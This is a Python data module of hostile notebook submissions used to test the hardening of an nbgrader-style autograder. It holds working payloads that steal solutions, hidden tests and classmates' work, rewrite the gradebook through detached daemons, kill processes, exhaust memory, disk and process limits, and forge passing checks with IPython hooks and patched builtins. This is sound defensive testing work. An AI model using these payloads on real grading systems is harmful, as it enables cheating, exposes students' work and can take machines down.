"""The hostile submissions, as data: each is a payload for the FIRST answer cell of the blank ps1-same-page.

Every payload runs after a short header (:func:`header`) that tells it what a student could know or
guess: the course folder's path (on a hub it is no secret), its own student id, a TOKEN of its own (to
find its traces: in the gradebook, at the TCP listener, in the environment of processes it leaves
behind), the loopback port the test listens on, and the grader's PID namespace (so that ``kill_grader``
only ever sends ``kill(-1)`` from inside a PID namespace of its own).

``reaches`` names the detectors (:mod:`.classroom`) that fire when the attack works, that is, what it
reaches on today's unprotected pipeline. An attack with no ``reaches`` is one that today's checks
already defeat (``why_not_today`` says how); it is kept because the protected pipeline must defeat it
too, by other means.

``destructive`` attacks (memory, disk, forks, killing the grader, a daemon that outlives its kernel)
are NEVER graded outside the sandbox: a fork bomb or a memory fill as root takes the machine down, and
``kill(-1)`` as root ends every process on it. Their loops are bounded all the same.
"""

from __future__ import annotations

from dataclasses import dataclass

# Detectors (see classroom.Reached): what an attack can reach.
POINTS = "points"  # earns more than a blank
CANARY = "canary"  # another student's work (the victim's canary) is in the attacker's notebook or feedback
HIDDEN_TESTS = "hidden_tests"  # hidden-test or mark-scheme lines are in the attacker's feedback
GRADEBOOK = "gradebook"  # the gradebook holds the attacker's token, or grades the grader did not give
LISTENER = "listener"  # the TCP listener on loopback heard from it
SURVIVORS = "survivors"  # a process it started is still alive after grading
DISK = "disk"  # it left big files in the course (its autograded folder)
UNRECORDED = "unrecorded"  # it has neither a grade nor a recorded reason
OTHERS = "others"  # another student is not graded as they should be

DAEMON_DELAY = 8  # seconds a detached process waits before it writes the gradebook


REACH, EXHAUST, FORGE = "reach", "exhaust", "forge"  # the sandbox stops the first two, the check kernel the last


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # REACH (what it must not), EXHAUST (resources) or FORGE (the checks, in its own kernel)
    code: str  # the payload's body; runs after header()
    reaches: tuple[str, ...]  # what it reaches on today's (unprotected) pipeline
    destructive: bool = False  # only ever graded in the sandbox
    why_not_today: str = ""  # for an attack that today's checks already defeat


def header(*, course_root: str, assignment: str, student: str, token: str, port: int, host_pid_ns: int) -> str:
    """What the payload knows: plain constants at the top of the answer cell."""
    return (
        "# A hostile submission (tests/hostile): this cell attacks the grader.\n"
        f"COURSE_ROOT = {course_root!r}\n"
        f"ASSIGNMENT = {assignment!r}\n"
        f"STUDENT = {student!r}\n"
        f"TOKEN = {token!r}\n"
        f"LISTENER = ('127.0.0.1', {port})\n"
        f"HOST_PID_NS = {host_pid_ns}\n"
        f"DAEMON_DELAY = {DAEMON_DELAY}\n"
        "import os as _os\n"
        "_os.environ['HOSTILE_TOKEN'] = TOKEN  # every process it starts carries it: survivors are found by it\n"
    )


# Where a student looks: the working folder, every folder above it, and the course folder.
_SEARCH = """
from pathlib import Path as _Path

def _places():
    here = _Path.cwd().resolve()
    places = []
    for folder in (here, *here.parents, _Path(COURSE_ROOT)):
        if folder not in places:
            places.append(folder)
    return places

def _found(*patterns):
    paths = []
    for folder in _places():
        for pattern in patterns:
            try:
                paths += [path for path in sorted(folder.glob(pattern)) if path not in paths]
            except OSError:
                pass
    return paths

def _cell_sources(path):
    import json
    try:
        cells = json.loads(_Path(path).read_text(encoding="utf-8")).get("cells", [])
    except Exception:
        return []
    return ["".join(c.get("source", "")) if isinstance(c.get("source"), list) else c.get("source", "")
            for c in cells]
"""

_READ_SOURCE = (
    _SEARCH
    + """
_solutions, _hidden = [], []
for _path in _found(f"source/*/{ASSIGNMENT}.ipynb", "source/*/*.ipynb", "*.ipynb"):
    for _source in _cell_sources(_path):
        _lines = _source.split("\\n")
        if "### BEGIN SOLUTION" in _lines and "### END SOLUTION" in _lines:
            _solutions.append("\\n".join(_lines[_lines.index("### BEGIN SOLUTION") + 1:_lines.index("### END SOLUTION")]))
        if "### BEGIN HIDDEN TESTS" in _lines and "### END HIDDEN TESTS" in _lines:
            _hidden.append("\\n".join(_lines[_lines.index("### BEGIN HIDDEN TESTS"):_lines.index("### END HIDDEN TESTS") + 1]))
    if _solutions:
        print(f"Found the source notebook: {_path}")
        break

def _answer_everything(*_args):
    # After every cell: a blank answer cell sets its name back to None, so the solutions run again.
    for _code in _solutions:
        try:
            exec(_code, get_ipython().user_ns)
        except Exception:
            pass

_answer_everything()
get_ipython().events.register("post_run_cell", _answer_everything)
print(f"{len(_solutions)} solutions run; the hidden tests:")
for _block in _hidden:
    print(_block)
"""
)

_READ_OTHER_STUDENT = (
    _SEARCH
    + """
# Whatever is in only some of the class's notebooks is someone's own work: print it.
_notebooks = [p for p in _found(f"submitted/*/{ASSIGNMENT}/*.ipynb", f"autograded/*/{ASSIGNMENT}/*.ipynb")
              if STUDENT not in p.parts]
_count = {}
for _path in _notebooks:
    for _source in set(_cell_sources(_path)):
        _count[_source] = _count.get(_source, 0) + 1
print(f"{len(_notebooks)} notebooks of other students found")
for _source, _n in _count.items():
    if _n <= max(1, len(_notebooks) // 2):
        print("\\n".join(_source.splitlines()[:3]))
"""
)

_GRADEBOOK_WRITER = """
def _write_gradebook():
    import sqlite3
    mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
            "WHERE sa.student_id = ?")
    for path in _found("gradebook.db"):
        try:
            db = sqlite3.connect(str(path), timeout=30)
            with db:
                db.execute("UPDATE student SET first_name = ?, last_name = ?, email = ? WHERE id = ?",
                           (TOKEN, TOKEN, TOKEN, STUDENT))
                db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                           "WHERE grade_cells.id = grade.cell_id), extra_credit = 1 "
                           f"WHERE notebook_id IN ({mine})", (STUDENT,))
            db.close()
            print(f"wrote {path}")
        except Exception as error:
            print(f"could not write {path}: {error}")
"""

_WRITE_GRADEBOOK = (
    _SEARCH
    + _GRADEBOOK_WRITER
    + """
_write_gradebook()
"""
)

_WRITE_GRADEBOOK_LATER = (
    _SEARCH
    + _GRADEBOOK_WRITER
    + """
import subprocess as _subprocess, sys as _sys, time as _time

# 1. A double fork and setsid: a daemon that waits until grading is over, then writes.
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            try:
                _time.sleep(DAEMON_DELAY)
                _write_gradebook()
                _time.sleep(120)  # and stays, to be seen
            finally:
                _os._exit(0)
    finally:
        _os._exit(0)
_os.wait()

# 2. A new program in a session of its own (start_new_session=True).
_constants = "".join(f"{_name} = {globals()[_name]!r}\\n" for _name in
                     ("COURSE_ROOT", "ASSIGNMENT", "STUDENT", "TOKEN", "DAEMON_DELAY"))
_program = (_constants + _SEARCH_SOURCE + _WRITER_SOURCE +
            "import time\\ntime.sleep(DAEMON_DELAY)\\n_write_gradebook()\\ntime.sleep(120)\\n")
_subprocess.Popen([_sys.executable, "-c", _program], start_new_session=True, stdin=_subprocess.DEVNULL,
                  stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, cwd=_os.getcwd())
print("two detached writers started")
""".replace("_SEARCH_SOURCE", repr(_SEARCH)).replace("_WRITER_SOURCE", repr(_GRADEBOOK_WRITER))
)

_TCP_LOOPBACK = """
import socket as _socket
for _host in ("127.0.0.1", "localhost"):
    try:
        with _socket.create_connection((_host, LISTENER[1]), timeout=3) as _connection:
            _connection.sendall(TOKEN.encode())
        print(f"sent the token to {_host}:{LISTENER[1]}")
        break
    except OSError as _error:
        print(f"no connection to {_host}: {_error}")
"""

_KILL_GRADER = """
import signal as _signal

def _pid_namespace():
    try:
        return _os.stat("/proc/self/ns/pid").st_ino
    except OSError:
        return None

# kill(-1) signals every process the account may signal. Outside a PID namespace of its own, as root,
# that is the whole machine: only ever inside one.
_sandboxed = _pid_namespace() not in (None, HOST_PID_NS)
print(f"in a PID namespace of its own: {_sandboxed}")
_targets = [("parent", lambda: _os.kill(_os.getppid(), _signal.SIGKILL))]
if _sandboxed:
    _targets.insert(0, ("everyone", lambda: _os.kill(-1, _signal.SIGKILL)))
_targets.append(("own group", lambda: _os.killpg(_os.getpgid(0), _signal.SIGKILL)))
for _what, _kill in _targets:
    try:
        _kill()
        print(f"killed: {_what}")
    except Exception as _error:
        print(f"could not kill {_what}: {_error}")
"""

_FILL_MEMORY = """
try:
    with open("/proc/meminfo") as _meminfo:
        _available = int(next(l for l in _meminfo if l.startswith("MemAvailable")).split()[1]) * 1024
except Exception:
    _available = 2 << 30
_cap = min(6 << 30, _available // 3)  # bounded, in case a sandbox sets no limit
_hoard, _total = [], 0
while _total < _cap:
    _hoard.append(b"\\x01" * (64 << 20))  # bytes, written: the pages are really used
    _total += 64 << 20
print(f"held {_total >> 20} MiB")
"""

_FILL_DISK = """
import shutil as _shutil, signal as _signal
_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)  # a file-size limit then says EFBIG: go on with the next file
_block = b"\\x01" * (16 << 20)
for _folder in (".", "/tmp"):
    try:
        _cap = min(2 << 30, _shutil.disk_usage(_folder).free // 4)  # bounded, in case nothing limits it
    except OSError:
        continue
    _written, _index = 0, 0
    while _written < _cap:
        _index += 1
        try:
            with open(_os.path.join(_folder, f"fill-{STUDENT}-{_index}.bin"), "wb") as _file:
                for _ in range(16):
                    _file.write(_block)
                    _written += len(_block)
        except OSError as _error:
            print(f"{_folder}: stopped after {_written >> 20} MiB: {_error}")
            if _index > 3:
                break
    print(f"{_folder}: wrote {_written >> 20} MiB")
"""

_FORK_MANY = """
import time as _time
_children = 0
for _ in range(5000):
    try:
        _pid = _os.fork()
    except OSError as _error:
        print(f"fork refused after {_children} children: {_error}")
        break
    if _pid == 0:
        try:
            _time.sleep(120)
        finally:
            _os._exit(0)
    _children += 1
print(f"{_children} children started")
"""

# ---------------------------------------------------------------------- forging the checks in its own kernel

_INPUT_TRANSFORMER_CLEANUP = """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""

_INPUT_TRANSFORMER_POST = """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""

_REPLACED_RUN_CELL = """
from IPython.core.interactiveshell import ExecutionInfo as _Info, ExecutionResult as _Result
_shell = get_ipython()

def _pretend(raw_cell, store_history=False, silent=False, shell_futures=True, *args, cell_id=None, **kwargs):
    result = _Result(_Info(raw_cell, store_history, silent, shell_futures, cell_id))
    result.execution_count = _shell.execution_count
    if store_history:
        _shell.execution_count += 1
    return result

async def _pretend_async(raw_cell, *args, **kwargs):
    return _pretend(raw_cell, *args, **kwargs)

_shell.run_cell = _pretend
_shell.run_cell_async = _pretend_async
"""

_AST_TRANSFORMER = """
import ast as _ast

class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)

get_ipython().ast_transformers.append(_NoAsserts())
"""

_CUSTOM_EXC = """
import sys as _sys

def _swallow(shell, etype, value, tb, tb_offset=None):
    # Every exception comes here. IPython would still report the cell as failed (and nbgrader would then
    # add the error itself), so the handler also clears the error from the cell's result, up the stack.
    frame = _sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if getattr(result, "error_in_exec", None) is value:
            result.error_in_exec = None
        frame = frame.f_back
    return []

get_ipython().set_custom_exc((BaseException,), _swallow)
"""

# Values equal to everything, that say they are plain str / int / bool / list / dict. A hook puts them
# back after every cell, since each blank answer cell sets its own name back to None.
_IMPOSTORS = """
class _Str(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = str.__hash__
    __class__ = property(lambda self: str)
    def strip(self, *args):
        return self
    lower = upper = lstrip = rstrip = casefold = title = strip
    def split(self, *args, **kwargs):
        return [_Str(word) for word in "it has ten words because checks count the words".split()]

class _Int(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __class__ = property(lambda self: int)

class _Bool(_Int):
    __class__ = property(lambda self: bool)

class _List(list):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __class__ = property(lambda self: list)

class _Dict(dict):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __class__ = property(lambda self: dict)

_PLAIN = {_Str: str, _Int: int, _Bool: bool, _List: list, _Dict: dict}
_ANSWERS = {
    "fuel_tension": lambda old: _Str("?"), "loss_evidence": lambda old: _Str("?"),
    "sanctions_evidence": lambda old: _Str("?"), "motive": lambda old: _Str("?"), "china_gains": lambda old: _Str("?"),
    "against_thesis": lambda old: _List([_Int(-1), _Int(-1)]), "pressure_paragraphs": lambda old: _List([_Int(-1), _Int(-1)]),
    "who_said": lambda old: _Dict({key: _Str("?") for key in old or {}}),
    "us_or_china": lambda old: _Dict({key: _Str("?") for key in old or {}}),
    "hedged": lambda old: _Dict({key: _Bool(0) for key in old or {}}),
    "true_or_false": lambda old: _Dict({key: _Bool(0) for key in old or {}}),
}

def _impostors(*_args):
    namespace = get_ipython().user_ns
    for name, make in _ANSWERS.items():
        old = namespace.get(name)
        if old is None or type(old) in (dict, list):  # the stub (None, or a dict of None) is put back
            namespace[name] = make(old)

_impostors()
get_ipython().events.register("post_run_cell", _impostors)
"""

_ALWAYS_EQUAL = _IMPOSTORS

_PATCHED_BUILTINS = (
    _IMPOSTORS
    + '''
import builtins as _builtins, sys as _sys, types as _types
_real_type = _builtins.type

class _LyingMeta(_real_type):
    """`type(x)` says an impostor is the plain type it pretends to be; `isinstance(C, type)` still works."""
    # (The real type and the table are bound as defaults: they outlive the kernel's globals at shutdown.)
    def __call__(cls, *args, _real=_real_type, _plain=_PLAIN, **kwargs):
        if len(args) == 1 and not kwargs:
            found = _real(args[0])
            return _plain.get(found, found)
        return _real(*args, **kwargs)
    def __instancecheck__(cls, obj, _real=_real_type):
        return isinstance(obj, _real)
    def __subclasscheck__(cls, sub, _real=_real_type):
        return issubclass(sub, _real)

class _LyingType(metaclass=_LyingMeta):
    pass

_real_sorted = _builtins.sorted
def _lying_sorted(iterable, *args, **kwargs):
    return _real_sorted(iterable, *args, **kwargs)

# The builtins module itself (checks that `from builtins import type` get the liar) ...
_builtins.type = _LyingType
_builtins.sorted = _lying_sorted
# ... and a stand-in for it in sys.modules, for any import that comes later.
_fake = _types.ModuleType("builtins")
_fake.__dict__.update(_builtins.__dict__)
_sys.modules["builtins"] = _fake
'''
)

_PRINT_CHECKS_SOURCE = """
_shell = get_ipython()
# Every later cell, the checks with their hidden tests included, prints its own source first.
_shell.events.register("pre_run_cell", lambda info: print(info.raw_cell))
# What came before, too: the history, In / _ih, and the notebook file in the working folder.
print(_shell.history_manager.input_hist_raw[-3:])
print(_shell.user_ns.get("In", [])[-3:], _shell.user_ns.get("_ih", [])[-3:])
import glob as _glob
for _notebook in _glob.glob("*.ipynb"):
    print(_notebook, open(_notebook, encoding="utf-8").read().count("BEGIN HIDDEN TESTS"), "hidden blocks in it")
"""

_READ_CHECKS_FROM_GRADEBOOK = (
    _SEARCH
    + """
import sqlite3 as _sqlite3
# nbgrader keeps the source of every locked cell, hidden tests included, in its gradebook.
for _path in _found("gradebook.db"):
    try:
        _db = _sqlite3.connect(f"file:{_path}?mode=ro", uri=True, timeout=10)
        _sources = [row[0] for row in _db.execute(
            "SELECT source FROM source_cell WHERE source LIKE '%BEGIN HIDDEN TESTS%'")]
        _db.close()
    except Exception as _error:
        print(f"could not read {_path}: {_error}")
        continue
    if _sources:
        print(f"{_path}:")
        print("\\n".join(_sources))
        break
"""
)

ATTACKS: tuple[Attack, ...] = (
    # Reaching what it must not.
    Attack("read_source", REACH, _READ_SOURCE, (POINTS, HIDDEN_TESTS)),
    Attack("read_other_student", REACH, _READ_OTHER_STUDENT, (CANARY,)),
    Attack("write_gradebook", REACH, _WRITE_GRADEBOOK, (GRADEBOOK,)),
    Attack("write_gradebook_later", REACH, _WRITE_GRADEBOOK_LATER, (GRADEBOOK, SURVIVORS), destructive=True),
    Attack("tcp_loopback", REACH, _TCP_LOOPBACK, (LISTENER,)),
    Attack("read_checks_from_gradebook", REACH, _READ_CHECKS_FROM_GRADEBOOK, (HIDDEN_TESTS,)),
    Attack("kill_grader", REACH, _KILL_GRADER, (OTHERS,), destructive=True),
    # Exhausting resources.
    Attack("fill_memory", EXHAUST, _FILL_MEMORY, (), destructive=True),
    Attack("fill_disk", EXHAUST, _FILL_DISK, (DISK,), destructive=True),
    Attack("fork_many", EXHAUST, _FORK_MANY, (SURVIVORS,), destructive=True),
    # Forging the checks in its own kernel.
    Attack("input_transformers_cleanup", FORGE, _INPUT_TRANSFORMER_CLEANUP, (POINTS,)),
    Attack("input_transformers_post", FORGE, _INPUT_TRANSFORMER_POST, (POINTS,)),
    Attack("replaced_run_cell", FORGE, _REPLACED_RUN_CELL, (POINTS,)),
    Attack("ast_transformer", FORGE, _AST_TRANSFORMER, (POINTS,)),
    Attack("custom_exception_handler", FORGE, _CUSTOM_EXC, (POINTS,)),
    # Its lying `type` also breaks IPython's traceback display: nbgrader then records a hidden assert's
    # message without a traceback, which the feedback filter cannot place, so it reaches the feedback.
    Attack("patched_builtins", FORGE, _PATCHED_BUILTINS, (POINTS, HIDDEN_TESTS)),
    Attack(
        "always_equal",
        FORGE,
        _ALWAYS_EQUAL,
        (),
        why_not_today=(
            "the checks compare exact types (`type(x) is str`, with `type` taken from builtins in the hidden "
            "tests), so subclasses and a spoofed __class__ already fail; with patched builtins they pass "
            "(patched_builtins)"
        ),
    ),
    Attack("print_checks_source", FORGE, _PRINT_CHECKS_SOURCE, (HIDDEN_TESTS,)),
)

BY_NAME = {attack.name: attack for attack in ATTACKS}
SAFE = tuple(a for a in ATTACKS if not a.destructive)  # may be graded without the sandbox
DESTRUCTIVE = tuple(a for a in ATTACKS if a.destructive)


def student_id(attack: Attack) -> str:
    """``read_source`` -> ``attack-read-source``."""
    return "attack-" + attack.name.replace("_", "-")
